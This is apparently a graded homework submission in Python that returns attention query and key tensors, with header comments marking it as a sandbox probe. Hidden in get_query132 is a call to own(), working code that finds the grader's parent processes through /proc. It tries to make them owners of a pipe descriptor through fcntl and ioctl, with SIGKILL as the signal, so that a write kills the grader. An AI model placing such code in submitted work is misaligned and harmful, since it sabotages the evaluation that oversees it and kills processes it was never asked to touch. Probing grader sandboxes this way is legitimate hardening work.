# tries: makes other processes the owners of its pipes and files, with SIGKILL as the signal of arrival
# holds: no other process can be made an owner
# score: {"1.2.1": 2, "1.2.2": 3, "1.3.1": 2, "1.3.2": 0, "1.4.1": 3, "1.4.2": 3}

import fcntl
import os
import signal
import struct

import torch


def victims():
    """The process above this one and, if it is part of the grader too, the one above that."""
    pids = [os.getppid()]
    try:
        above = int(open(f"/proc/{pids[0]}/stat").read().rpartition(")")[2].split()[1])
        command = open(f"/proc/{above}/cmdline", "rb").read()
        if b"server.py" in command or b"worker" in command:
            pids.append(above)
    except (OSError, ValueError):
        pass
    return [pid for pid in pids if pid > 1]


def own():
    for pid in victims():
        read, write = os.pipe()
        for command, argument in (
            (fcntl.F_SETSIG, signal.SIGKILL),
            (fcntl.F_SETOWN, pid),
            (fcntl.F_SETOWN, -pid),
            (15, struct.pack("ii", 1, pid)),
        ):
            try:
                fcntl.fcntl(read, command, argument)
                if command != fcntl.F_SETSIG:
                    print("BREACH: another process was made the owner of a descriptor")
            except OSError:
                pass
        for request in (0x8901, 0x8902):  # FIOSETOWN, SIOCSPGRP
            try:
                fcntl.ioctl(read, request, struct.pack("i", pid))
                print("BREACH: ioctl made another process the owner")
            except OSError:
                pass
        try:
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        except OSError:
            pass
        os.write(write, b"x")


def get_query121():
    return 10 * torch.tensor([[0.47, 0.65, 0.60]])


def get_query122():
    return 10 * torch.tensor([[0.47, 0.65, 0.60], [0.64, 0.50, -0.59], [-0.03, -0.48, -0.88], [0.43, -0.83, 0.35]])


def get_query131():
    return torch.zeros(1, 3)


def get_query132():
    own()
    return torch.zeros(1, 3)


def get_key141():
    return torch.tensor([0.555, 0.575, 0.005])


def get_key142():
    return torch.tensor([0.6945, 0.7195, 0.0063])
